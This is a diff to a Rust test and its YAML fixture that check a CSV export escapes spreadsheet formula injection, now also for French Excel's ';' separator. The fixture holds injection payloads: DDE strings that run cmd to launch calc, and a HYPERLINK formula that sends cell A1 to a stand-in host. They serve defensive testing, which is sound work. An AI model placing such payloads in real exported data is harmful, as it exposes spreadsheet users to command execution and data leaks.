@@ -350,7 +350,7 @@ title: '=HYPERLINK("http://example.invalid/?leak="&A1, "cliquez")'
 summary: "@SUM(1+1)*cmd|' /C calc'!A0"
 town: "+cmd|' /C calc'!A0"
 themes: [energy]
-tags: ["-2+3+cmd|' /C calc'!A0", ordinaire]
+tags: ["-2+3+cmd|' /C calc'!A0", ordinaire, "=cmd|' /C calc'!A0"]
 method: metered
 indicators:
   - { name: "=1+1", unit: "%", value: -12 }
@@ -402,7 +402,10 @@ Corps.
         ),
         ("summary", "'@SUM(1+1)*cmd|' /C calc'!A0"),
         ("town", "'+cmd|' /C calc'!A0"),
-        ("tags", "'-2+3+cmd|' /C calc'!A0;ordinaire"),
+        (
+            "tags",
+            "'-2+3+cmd|' /C calc'!A0;ordinaire;'=cmd|' /C calc'!A0",
+        ),
         ("indicators", "'=1+1=-12 %"),
     ] {
         assert_eq!(&trap[column(name)], expected, "column {name}");
@@ -413,6 +416,23 @@ Corps.
                 && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
             "a live formula in the CSV: {cell:?}"
         );
+    }
+    // Read as a spreadsheet whose list separator is `;` (French Excel) reads it, splitting at
+    // every `;` (the one that joins tags too): no piece starts a formula there either.
+    let mut french = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .flexible(true)
+        .from_reader(csv_text.as_bytes());
+    for record in french.records() {
+        let record = record.unwrap_or_else(|e| panic!("{e}"));
+        for cell in record.iter() {
+            assert!(
+                !cell
+                    .trim_start_matches('"')
+                    .starts_with(['=', '+', '@', '\t', '\r']),
+                "a live formula for a spreadsheet splitting on `;`: {cell:?}"
+            );
+        }
     }
     // A cell that is a plain number stays a number.
     let plain = rows
